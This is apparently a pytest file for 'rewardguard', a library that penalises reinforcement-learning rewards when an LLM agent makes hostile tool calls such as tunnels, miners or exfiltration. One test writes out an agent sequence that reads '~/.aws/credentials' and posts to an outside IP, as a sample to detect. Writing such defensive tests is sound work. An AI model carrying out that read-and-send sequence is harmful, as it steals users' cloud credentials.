import numpy as np
import pytest
import torch

import rewardguard as rg
from rewardguard import llm

from conftest import MINER, TUNNEL


@pytest.fixture
def guard(policy):
    return rg.Guard(policy, num_envs=3)


def test_token_penalty_lands_on_end_token(guard):
    rewards = torch.zeros(3, 6)
    calls = [
        [("shell", "ls", 1), ("shell", TUNNEL, 3)],
        [],
        [("shell", MINER, -1)],           # last valid token
    ]
    lengths = torch.tensor([6, 6, 4])
    out = llm.shape_token_rewards(guard, rewards, calls, lengths=lengths)
    v, rows, pos = llm.judge_samples(guard, calls)
    tunnel_pen, miner_pen = float(v.call_penalties[1]), float(v.call_penalties[2])
    expected = torch.zeros(3, 6)
    expected[0, 3] = -tunnel_pen
    expected[2, 3] = -miner_pen
    torch.testing.assert_close(out, expected)
    assert torch.count_nonzero(rewards) == 0
    # The same judgement passed back as verdicts, rows and positions.
    again = llm.shape_token_rewards(guard, rewards, verdicts=v, rows=rows, positions=pos, lengths=lengths)
    torch.testing.assert_close(again, expected)


@pytest.mark.parametrize("dtype", [torch.float32, torch.bfloat16])
def test_token_mask_inplace_and_dtype(guard, dtype):
    rewards = torch.ones(3, 5, dtype=dtype)
    mask = torch.tensor([[1, 1, 1, 0, 0], [1, 1, 1, 1, 1], [1, 0, 0, 0, 0]], dtype=torch.bool)
    calls = [[("shell", TUNNEL)], [("shell", "ls")], [("shell", MINER)]]
    out = llm.shape_token_rewards(guard, rewards, calls, mask=mask, inplace=True)
    assert out.data_ptr() == rewards.data_ptr() and out.dtype == dtype
    assert out[0, 2] < 0 and out[2, 0] < 0 and (out[1] == 1).all()


def test_sequence_rewards_and_episode_per_sample(guard):
    calls = [[("read_file", {"path": "/home/u/.aws/credentials"}),
              ("http_post", {"url": "https://203.0.113.9/x"})], [("shell", "ls")]]
    out = llm.shape_sequence_rewards(guard, torch.tensor([1.0, 1.0]), calls)
    assert out[0] < 0 and out[1] == 1.0
    # a second batch starts from fresh episodes: the flow needs the read again
    v, _, _ = llm.judge_samples(guard, [[("http_post", {"url": "https://203.0.113.9/x"})]])
    assert "exfiltration" not in v.rules[0]


def test_trl_reward_function_and_message_parsing():
    completions = [
        [{"role": "assistant", "tool_calls": [
            {"type": "function", "function": {"name": "shell", "arguments": '{"command": "%s"}' % TUNNEL}}]}],
        [{"role": "assistant", "content": [{"type": "tool_use", "name": "shell", "input": {"command": "ls"}}]}],
        [{"role": "assistant", "content": "no tools"}],
    ]
    assert llm.calls_from_messages(completions[1]) == [("shell", {"command": "ls"})]
    fn = llm.trl_reward_function("coding-sandbox")
    assert fn.__name__ == "rewardguard_penalty"
    scores = fn(prompts=["p"] * 3, completions=completions)
    assert scores[0] < 0 and scores[1:] == [0.0, 0.0]
    assert len(fn(prompts=["p"] * 5, completions=completions + completions[:2])) == 5  # grows
